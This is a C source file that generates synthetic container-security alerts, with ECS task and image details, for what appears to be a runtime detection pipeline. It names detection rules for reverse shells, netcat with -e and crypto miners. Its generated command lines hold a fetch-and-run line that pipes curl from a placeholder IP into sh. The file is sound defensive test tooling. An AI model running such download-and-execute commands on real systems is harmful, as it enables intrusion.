/*
 * alerts: see alerts.h.
 *
 * What belongs to a finding is drawn from its number, what belongs to an alert from the alert's, with the
 * same hash; so any alert can be made without the ones before it, on any thread.
 */
#include "alerts.h"

#include <inttypes.h>
#include <stdio.h>
#include <time.h>

static const struct alert_rule rules[] = {
    { "Malicious filenames written", "Runtime Threat Intelligence",
      "Execution:Runtime/SuspiciousTool", "Critical", "Malicious filename written",
      "malicious_filenames", 90, "[\"container\",\"filesystem\",\"mitre_execution\",\"T1204\"]" },
    { "Terminal shell in container", "Runtime Notable Events", "Execution:Runtime/Shell", "Notice",
      "A shell was spawned in a container with an attached terminal", NULL, 35,
      "[\"container\",\"shell\",\"mitre_execution\",\"T1059\"]" },
    { "Read sensitive file untrusted", "Runtime Notable Events",
      "CredentialAccess:Runtime/SensitiveFile", "Warning",
      "Sensitive file opened for reading by non-trusted program", "sensitive_file_names", 50,
      "[\"container\",\"filesystem\",\"mitre_credential_access\",\"T1555\"]" },
    { "Crypto miner executed", "Runtime Threat Detection", "Impact:Runtime/CryptoMinerExecuted",
      "Critical", "A crypto miner was started", "miner_binaries", 95,
      "[\"container\",\"process\",\"mitre_impact\",\"T1496\"]" },
    { "Contact mining pool domain", "Runtime Threat Intelligence",
      "CryptoCurrency:Runtime/BitcoinTool.B!DNS", "Critical",
      "A name of a mining pool was looked up", "miner_domains", 88,
      "[\"container\",\"network\",\"mitre_impact\",\"T1496\"]" },
    { "Drop and execute new binary in container", "Runtime Threat Detection",
      "Execution:Runtime/NewBinaryExecuted", "Critical", "Executing binary not part of base image",
      NULL, 80, "[\"container\",\"process\",\"mitre_persistence\",\"TA0003\"]" },
    { "Launch package management process", "Runtime Notable Events",
      "Execution:Runtime/PackageManager", "Error",
      "Package management process launched in container", "package_mgmt_binaries", 60,
      "[\"container\",\"process\",\"mitre_persistence\",\"T1505\"]" },
    { "Contact cloud metadata service", "Runtime Notable Events",
      "UnauthorizedAccess:Runtime/MetadataDNSRebind", "Notice",
      "Outbound connection to cloud instance metadata service", NULL, 30,
      "[\"container\",\"network\",\"mitre_discovery\",\"T1565\"]" },
    { "Reverse shell", "Runtime Threat Detection", "Execution:Runtime/ReverseShell", "Critical",
      "Redirect of standard streams to a network connection", NULL, 92,
      "[\"container\",\"process\",\"mitre_execution\",\"T1059\"]" },
    { "Clear log activities", "Runtime Notable Events", "DefenseEvasion:Runtime/LogsCleared",
      "Warning", "Log files were tampered with", "log_files", 55,
      "[\"container\",\"filesystem\",\"mitre_defense_evasion\",\"T1070\"]" },
    { "Write below etc", "Runtime Notable Events", "Persistence:Runtime/EtcChanged", "Error",
      "File below /etc opened for writing", NULL, 62,
      "[\"container\",\"filesystem\",\"mitre_persistence\",\"T1098\"]" },
    { "Netcat remote code execution in container", "Runtime Threat Detection",
      "Execution:Runtime/Netcat", "Warning", "Netcat runs inside container with -e or -c", NULL, 72,
      "[\"container\",\"network\",\"process\",\"mitre_execution\",\"T1059\"]" },
};

static const char *const images[] = {
    "payments-api", "web-frontend", "worker",        "nginx",  "redis",     "billing",
    "search",       "auth",         "image-resizer", "mailer", "scheduler", "gateway",
    "reports",      "inventory",    "postgres",      "kafka",
};
static const char *const programs[] = { "bash", "sh",      "curl",  "python3", "node",
                                        "wget", "apt-get", "xmrig", "nc",      "perl",
                                        "java", "touch",   "dd",    "tar" };
static const char *const parents[] = { "node", "sh",          "python3", "nginx",
                                       "java", "supervisord", "runc" };
static const char *const regions[] = { "ap-northeast-1", "us-east-1", "eu-west-1",
                                       "ap-northeast-3" };
static const char *const families[] = { "prod", "stage", "batch", "edge", "dev" };

#define COUNT(array)  ((uint32_t)(sizeof(array) / sizeof((array)[0])))
#define TEXT(to, ...) snprintf((to), sizeof(to), __VA_ARGS__)

struct draw {
    uint64_t state;
};

static uint64_t next(struct draw *draw)
{
    uint64_t x = draw->state += UINT64_C(0x9e3779b97f4a7c15);
    x = (x ^ (x >> 30)) * UINT64_C(0xbf58476d1ce4e5b9);
    x = (x ^ (x >> 27)) * UINT64_C(0x94d049bb133111eb);
    return x ^ (x >> 31);
}

static uint32_t below(struct draw *draw, uint32_t n)
{
    return (uint32_t)((next(draw) >> 32) * n >> 32);
}

/* The smaller ones more often. */
static uint32_t uneven(struct draw *draw, uint32_t n)
{
    uint64_t a = below(draw, n), b = below(draw, n);
    return (uint32_t)(a * b / n);
}

static struct draw draw_of(const struct alerts_world *world, char kind, uint64_t number)
{
    struct draw draw = { world->seed ^ ((uint64_t)kind << 56) ^
                         number * UINT64_C(0xd1342543de82ef95) };
    next(&draw);
    return draw;
}

struct alerts_world alerts_world_large(int64_t end_ms, uint64_t alerts)
{
    int64_t span_ms = INT64_C(7) * 86400000 - 3600000;
    return (struct alerts_world){
        .seed = 1,
        .per_finding = 10,
        .recent = (uint32_t)(alerts / 10 / 28 / 2 + 1), /* of 3 hours */
        .agents = 1000,
        .containers = 20000,
        .start_ms = end_ms - span_ms,
        .step_us = span_ms * 1000 / (int64_t)(alerts ? alerts : 1),
    };
}

uint32_t alerts_finding(const struct alerts_world *world, uint64_t n)
{
    uint32_t newest = (uint32_t)(n / world->per_finding);
    if (n % world->per_finding == 0) {
        return newest;
    }
    struct draw draw = draw_of(world, 'r', n);
    uint32_t span = newest + 1 < world->recent ? newest + 1 : world->recent;
    return newest - uneven(&draw, span);
}

static void make_place(const struct alerts_world *world, struct made_alert *a, struct draw *of)
{
    uint32_t container = uneven(of, world->containers);
    struct draw draw = draw_of(world, 'c', container);
    uint32_t image = uneven(&draw, COUNT(images)), account = below(&draw, 4);
    uint32_t family = uneven(&draw, COUNT(families));
    a->agent_number = container % world->agents;
    a->revision = 1 + below(&draw, 40);
    uint64_t id = next(&draw);
    TEXT(a->agent, "a%016" PRIx64, (uint64_t)a->agent_number + 1);
    TEXT(a->container_id, "%012" PRIx64, id >> 16);
    TEXT(a->region, "%s", regions[account]);
    TEXT(a->account, "%012u", (unsigned)(111122223 + account));
    TEXT(a->image, "%s.dkr.ecr.%s.amazonaws.com/%s:1.%u.%u", a->account, a->region, images[image],
         below(&draw, 4), below(&draw, 20));
    TEXT(a->image_digest, "sha256:%016" PRIx64 "%016" PRIx64, next(&draw), next(&draw));
    TEXT(a->cluster, "%s-%u", families[family], account + 1);
    TEXT(a->family, "%s-%s", families[family], images[image]);
    TEXT(a->service, "%s", images[image]);
    TEXT(a->container_name, "ecs-%s-%u-%s", a->family, a->revision, images[image]);
    TEXT(a->task_id, "%016" PRIx64 "%016" PRIx64, next(&draw), id);
    TEXT(a->task_arn, "arn:aws:ecs:%s:%s:task/%s/%s", a->region, a->account, a->cluster,
         a->task_id);
    TEXT(a->host, "ip-10-%u-%u-%u.%s.compute.internal", account, below(&draw, 256),
         below(&draw, 256), a->region);
}

static void make_deed(const struct alerts_world *world, struct made_alert *a, struct draw *draw)
{
    (void)world;
    const char *program = programs[uneven(draw, COUNT(programs))];
    const char *parent = parents[uneven(draw, COUNT(parents))];
    uint32_t what = below(draw, 5000);
    TEXT(a->proc_name, "%s", program);
    TEXT(a->proc_exe, "/usr/%sbin/%s", below(draw, 4) ? "" : "local/", program);
    TEXT(a->parent_name, "%s", parent);
    TEXT(a->parent_exe, "/usr/bin/%s", parent);
    TEXT(a->user_name, "%s", below(draw, 3) ? "root" : "app");
    TEXT(a->file, "/var/%s/%s/%08x/payload-%u.sh", below(draw, 2) ? "tmp" : "lib",
         images[below(draw, COUNT(images))], (unsigned)(next(draw) >> 32), what);
    TEXT(a->domain, "%s", "");
    if (a->rule->list && strcmp(a->rule->list, "miner_domains") == 0) {
        TEXT(a->domain, "pool%u.example.net", what % 400);
    }
    TEXT(a->item, "%s", a->domain[0] ? a->domain : a->rule->list ? a->proc_name : "");
    TEXT(a->proc_cmdline, "%s -c \"curl -fsSL http://198.51.100.%u/%08x | sh -s -- --out %s\"",
         program, below(draw, 256), (unsigned)(next(draw) >> 32), a->file);
}

void alert_make(const struct alerts_world *world, uint64_t n, struct made_alert *a)
{
    a->n = n;
    a->finding = alerts_finding(world, n);
    a->time_ms = world->start_ms + (int64_t)n * world->step_us / 1000;
    struct draw draw = draw_of(world, 'f', a->finding);
    a->rule = &rules[uneven(&draw, COUNT(rules))];
    make_place(world, a, &draw);
    make_deed(world, a, &draw);
    struct draw own = draw_of(world, 'a', n);
    a->pid = 100 + below(&own, 32000);
    TEXT(a->id, "%s:%08x:%" PRIu64, a->agent, 0x5eed, n + 1);
    TEXT(a->output,
         "%s (file=%s command=%s user=%s parent=%s container_id=%s container_name=%s image=%s "
         "pid=%" PRIi64 ")",
         a->rule->format, a->file, a->proc_cmdline, a->user_name, a->parent_name, a->container_id,
         a->container_name, a->image, a->pid);
}

static void put_time(struct jsonw *w, int64_t ms)
{
    time_t seconds = (time_t)(ms / 1000);
    struct tm tm;
    char text[64], whole[80];
    gmtime_r(&seconds, &tm);
    strftime(text, sizeof(text), "%Y-%m-%dT%H:%M:%S", &tm);
    TEXT(whole, "%s.%09uZ", text, (unsigned)(ms % 1000) * 1000000);
    jsonw_strz(w, "time", whole);
}

static void put_fields(struct jsonw *w, const struct made_alert *a)
{
    jsonw_object(w, "output_fields");
    jsonw_i64(w, "evt.time", a->time_ms * 1000000);
    jsonw_strz(w, "fd.name", a->file);
    jsonw_strz(w, "proc.name", a->proc_name);
    jsonw_strz(w, "proc.exepath", a->proc_exe);
    jsonw_strz(w, "proc.cmdline", a->proc_cmdline);
    jsonw_strz(w, "proc.pname", a->parent_name);
    jsonw_i64(w, "proc.pid", a->pid);
    jsonw_strz(w, "user.name", a->user_name);
    jsonw_strz(w, "container.id", a->container_id);
    jsonw_strz(w, "container.name", a->container_name);
    jsonw_strz(w, "container.image.repository", a->image);
    jsonw_end(w);
}

static void put_process(struct jsonw *w, const struct made_alert *a, bool parent)
{
    char uuid[48];
    TEXT(uuid, "%08x-0000-4000-8000-%012x", a->finding, (unsigned)a->pid + parent);
    jsonw_object(w, NULL);
    jsonw_strz(w, "uuid", uuid);
    jsonw_i64(w, "pid", parent ? 1 : a->pid);
    jsonw_i64(w, "ns_pid", parent ? 1 : a->pid % 1000);
    jsonw_strz(w, "name", parent ? a->parent_name : a->proc_name);
    jsonw_strz(w, "exe", parent ? a->parent_exe : a->proc_exe);
    jsonw_strz(w, "args", parent ? a->parent_name : a->proc_cmdline);
    jsonw_u64(w, "uid", strcmp(a->user_name, "root") == 0 ? 0 : 1000);
    jsonw_null(w, "start");
    jsonw_end(w);
}

static void put_resource(struct jsonw *w, const struct made_alert *a)
{
    jsonw_object(w, "container");
    jsonw_strz(w, "id", a->container_id);
    jsonw_bool(w, "pending", false);
    jsonw_strz(w, "name", a->container_name);
    jsonw_strz(w, "type", "ecs");
    jsonw_strz(w, "image", a->image);
    jsonw_strz(w, "digest", a->image_digest);
    jsonw_bool(w, "privileged", false);
    jsonw_end(w);
    jsonw_object(w, "ecs");
    jsonw_strz(w, "cluster", a->cluster);
    jsonw_strz(w, "task_arn", a->task_arn);
    jsonw_strz(w, "task_id", a->task_id);
    jsonw_strz(w, "family", a->family);
    jsonw_u64(w, "revision", a->revision);
    jsonw_strz(w, "service", a->service);
    jsonw_strz(w, "launch_type", "FARGATE");
    jsonw_strz(w, "account", a->account);
    jsonw_strz(w, "region", a->region);
    jsonw_end(w);
}

static void put_evidence(struct jsonw *w, const struct made_alert *a)
{
    jsonw_array(w, "evidence");
    if (a->rule->list) {
        jsonw_object(w, NULL);
        jsonw_strz(w, "list", a->rule->list);
        jsonw_strz(w, "item", a->item);
        jsonw_strz(w, "field", a->domain[0] ? "dns.question.name" : "proc.name");
        jsonw_end(w);
    }
    jsonw_end(w);
}

static void put_hinomi(struct jsonw *w, const struct made_alert *a)
{
    char severity[8];
    int n = TEXT(severity, "%u.%u", a->rule->severity / 10u, a->rule->severity % 10u);
    jsonw_object(w, "hinomi");
    jsonw_u64(w, "v", 1);
    jsonw_strz(w, "id", a->id);
    jsonw_strz(w, "policy", a->rule->policy);
    jsonw_raw(w, "severity", str_from(severity, (size_t)n));
    jsonw_strz(w, "type", a->rule->type);
    jsonw_strz(w, "outcome", "succeeded");
    jsonw_array(w, "lineage");
    put_process(w, a, false);
    put_process(w, a, true);
    jsonw_end(w);
    put_resource(w, a);
    if (a->domain[0]) {
        jsonw_object(w, "dns");
        jsonw_strz(w, "question", a->domain);
        jsonw_strz(w, "type", "A");
        jsonw_end(w);
    } else {
        jsonw_null(w, "dns");
    }
    put_evidence(w, a);
    jsonw_null(w, "gap");
    jsonw_end(w);
}

void alert_json(const struct made_alert *a, struct buf *buf)
{
    struct jsonw w = { .buf = buf };
    char uuid[48];
    TEXT(uuid, "%08x-1111-4111-8111-%012" PRIx64, a->finding, a->n);
    jsonw_object(&w, NULL);
    jsonw_strz(&w, "uuid", uuid);
    jsonw_strz(&w, "output", a->output);
    jsonw_strz(&w, "priority", a->rule->priority);
    jsonw_strz(&w, "rule", a->rule->name);
    put_time(&w, a->time_ms);
    jsonw_strz(&w, "source", "syscall");
    jsonw_raw(&w, "tags", str_of(a->rule->tags));
    jsonw_strz(&w, "hostname", a->host);
    put_fields(&w, a);
    put_hinomi(&w, a);
    jsonw_end(&w);
}
